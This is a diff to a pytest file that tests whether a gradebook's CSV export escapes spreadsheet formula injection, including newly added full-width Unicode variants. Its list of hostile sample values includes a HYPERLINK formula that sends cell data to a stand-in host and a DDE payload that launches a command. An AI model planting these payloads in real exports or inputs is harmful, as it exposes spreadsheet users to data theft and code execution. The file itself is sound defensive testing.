@@ -1,6 +1,7 @@
 """The gradebook CSV never hands a spreadsheet a formula (OWASP CSV injection), over real HTTP, from the API
 (`?format=csv`) and the staff page (`gradebook.csv`): a learner's display name `=HYPERLINK(...)`, an LMS's
-subject or issuer starting with `@`, `+`, `-`, a tab or a CR reaches its cell as text behind a single
+subject or issuer starting with `@`, `+`, `-`, a tab or a CR (or a full-width ＝ ＋ － ＠, which spreadsheets
+with East Asian input read as the ASCII ones) reaches its cell as text behind a single
 quote, and numbers stay numbers."""
 from __future__ import annotations
 
@@ -14,7 +15,7 @@ import pytest
 from service.grades.sheet import guard_cell
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-2+3",
-           "\tleading-tab", "\rleading-cr"]
+           "\tleading-tab", "\rleading-cr", '＝HYPERLINK("http://evil.example/","open")', "＋1＋2", "－2", "＠SUM(1)"]
 CSRF = re.compile(r'name="csrf" value="([^"]+)"')
 
 
@@ -45,7 +46,7 @@ def _check(rows: list[dict], raw: str) -> None:
         for column in ("user", "issuer", "subject"):
             assert row[column].startswith("'") and row[column][1:] in HOSTILE, (column, row[column])
         assert row["score"] == "2.5" and row["max_score"] == "3.0" and row["attempts"] == "1"  # numbers as numbers
-    assert not re.search(r'(^|,)"?[=+\-@]', raw, re.M)  # no cell of the sheet starts like a formula
+    assert not re.search(r'(^|,)"?[=+\-@＝＋－＠]', raw, re.M)  # no cell of the sheet starts like a formula
 
 
 def test_api_csv_guards_every_learner_and_lms_string(live_api, hostile_rows):
@@ -66,6 +67,7 @@ def test_the_staff_pages_csv_guards_them_too(live_api, hostile_rows):
 
 @pytest.mark.parametrize(("value", "expected"), [
     ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
+    ("＝1＋1", "'＝1＋1"), ("＠A1", "'＠A1"),
     ("alice", "alice"), ("a=b", "a=b"), ("", ""), (-1.5, -1.5), (3, 3), (None, None),
 ])
 def test_guard_cell(value, expected):
